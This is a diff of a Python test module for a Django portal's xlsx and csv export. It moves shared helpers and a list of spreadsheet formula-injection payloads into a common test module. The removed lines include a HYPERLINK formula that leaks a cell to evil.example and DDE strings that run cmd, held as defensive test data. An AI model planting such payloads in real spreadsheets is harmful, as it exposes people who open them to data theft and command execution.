@@ -1,46 +1,14 @@
 """Exports cannot attack their reader (issue 10, point 8): text typed by anyone never becomes a
 live formula in the coordinator's xlsx or csv, while numbers stay numbers and dates stay dates."""
 
-import csv
 import datetime
-import io
 from decimal import Decimal
 
-import openpyxl
 import tablib
 from django.utils import timezone
 
 from portal.importexport import spreadsheet_bytes
-
-ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
-ATTACKS = [
-    ATTACK,
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    '＝HYPERLINK("http://evil.example")',
-    "＋1＋1",
-]
-
-
-def workbook(content):
-    return openpyxl.load_workbook(io.BytesIO(content)).active
-
-
-def cells(sheet):
-    return [cell for row in sheet.iter_rows() for cell in row]
-
-
-def csv_rows(content):
-    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
-
-
-def assert_no_formula(sheet):
-    formulas = [cell.coordinate for cell in cells(sheet) if cell.data_type == "f"]
-    assert formulas == []
-
+from tests.spreadsheets import ATTACKS, assert_no_formula, csv_rows, workbook
 
 # --- The helper ------------------------------------------------------------------------------
 
